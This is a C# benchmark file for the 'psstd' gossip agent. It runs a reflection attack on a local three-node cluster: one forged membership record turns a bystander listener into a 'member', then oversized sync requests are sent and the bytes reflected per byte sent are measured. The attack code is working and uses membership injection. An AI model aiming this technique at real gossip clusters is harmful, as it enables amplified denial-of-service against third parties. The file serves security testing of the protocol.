using System.Net;
using System.Net.Sockets;
using Psstd.Gossip.Wire;
using Psstd.Bench.Processes;

namespace Psstd.Bench.Attack;

/// <summary>
/// Row 5 of the trust issue: one datagram makes 127.0.0.2:9999 (a listener that speaks no psstd, counting what
/// reaches it over UDP and TCP) a "member" of a real agent; then 100 anti-entropy requests "from" it (its own
/// socket, so the source is genuine), each asking for more than it carries. Bytes that reach the listener per
/// byte the attacker sent.
/// </summary>
internal static class ReflectAttack
{
    public static async Task<Dictionary<string, object>> RunAsync(AttackOptions options, CancellationToken cancellationToken)
    {
        await using var cluster = await BenchCluster.StartAsync(3, options.AgentDll, null, cancellationToken);
        var target = cluster.Members[0];
        var victim = new IPEndPoint(IPAddress.Parse("127.0.0.2"), 9999);
        using var attacker = new Attacker(victim, options.Wire);
        using var tcp = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);
        tcp.Bind(victim);
        tcp.Listen();
        long received = 0;
        using var stop = CancellationTokenSource.CreateLinkedTokenSource(cancellationToken);
        var udpCount = CountAsync(attacker.Socket, n => Interlocked.Add(ref received, n), stop.Token);
        var tcpCount = AcceptAllAsync(tcp, n => Interlocked.Add(ref received, n), stop.Token);

        attacker.SendRecords(target.Gossip, [Attacker.Record(Guid.NewGuid(), "reflector", 1, 1, victim.ToString(), "")]);
        await Task.Delay(TimeSpan.FromSeconds(1), TimeProvider.System, cancellationToken);
        var payload = new byte[PacketCodec.MaxDatagramBytes];
        for (var i = 0; i < 100; i++)
        {
            attacker.Send(target.Gossip, MessageKind.SyncDigest, payload.AsSpan(0, SyncMessages.WriteDigest("", ulong.MaxValue, [], payload)));
            attacker.Send(target.Gossip, MessageKind.SyncSummary, payload.AsSpan(0, SyncMessages.WriteSummary("", new SyncSummary(), payload)));
        }

        await Task.Delay(TimeSpan.FromSeconds(5), TimeProvider.System, cancellationToken);
        await stop.CancelAsync();
        await Task.WhenAll(udpCount, tcpCount);
        var sent = attacker.BytesSent;
        return new Dictionary<string, object>
        {
            ["kind"] = "reflect",
            ["bytes_sent"] = sent,
            ["bytes_reflected"] = Interlocked.Read(ref received),
            ["bytes_reflected_per_byte_sent"] = Math.Round((double)Interlocked.Read(ref received) / sent, 3),
        };
    }

    private static async Task CountAsync(Socket socket, Action<int> count, CancellationToken cancellationToken)
    {
        var buffer = new byte[65536];
        try
        {
            while (true)
            {
                count(await socket.ReceiveAsync(buffer, SocketFlags.None, cancellationToken));
            }
        }
        catch (OperationCanceledException)
        {
        }
    }

    private static async Task AcceptAllAsync(Socket listener, Action<int> count, CancellationToken cancellationToken)
    {
        var readers = new List<Task>();
        try
        {
            while (true)
            {
                var connection = await listener.AcceptAsync(cancellationToken);
                readers.Add(CountAndCloseAsync(connection, count, cancellationToken));
            }
        }
        catch (OperationCanceledException)
        {
        }

        await Task.WhenAll(readers);
    }

    private static async Task CountAndCloseAsync(Socket connection, Action<int> count, CancellationToken cancellationToken)
    {
        using (connection)
        {
            await CountAsync(connection, count, cancellationToken);
        }
    }
}
